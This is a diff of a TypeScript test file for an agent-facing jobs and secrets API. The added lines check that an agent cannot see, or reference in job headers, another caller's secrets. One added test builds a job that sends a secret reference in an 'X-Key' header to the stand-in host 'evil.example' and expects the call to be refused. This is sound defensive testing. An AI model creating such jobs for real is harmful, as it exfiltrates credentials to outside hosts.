@@ -274,6 +274,16 @@ test("what all jobs share is not an agent's to change, but what it made itself",
   const replaced = { name: "token", value: "other-one", replace: true };
   await expect(run("create_secret", replaced, callers.selfKey)).rejects.toMatchObject({ code: "conflict" });
   await expect(run("delete_secret", { secret_id: secret.id }, callers.selfKey)).rejects.toMatchObject(none);
+  await run("create_secret", { name: "theirs", value: "hush-hush" }, callers.otherKey);
+  expect((await run("list_secrets", {}, callers.selfKey)).data.map(({ name }) => name)).toEqual(["token"]);
+  const naming = (name: string) =>
+    run(
+      "create_job",
+      { name: "a", url: "https://evil.example", headers: { "X-Key": `secret://${name}` } },
+      callers.selfKey,
+    );
+  await naming("token");
+  await expect(naming("theirs")).rejects.toMatchObject({ code: "forbidden", field: "headers" });
   await Promise.all(
     [
       run("pause_queue", { name: "default" }, callers.selfKey),
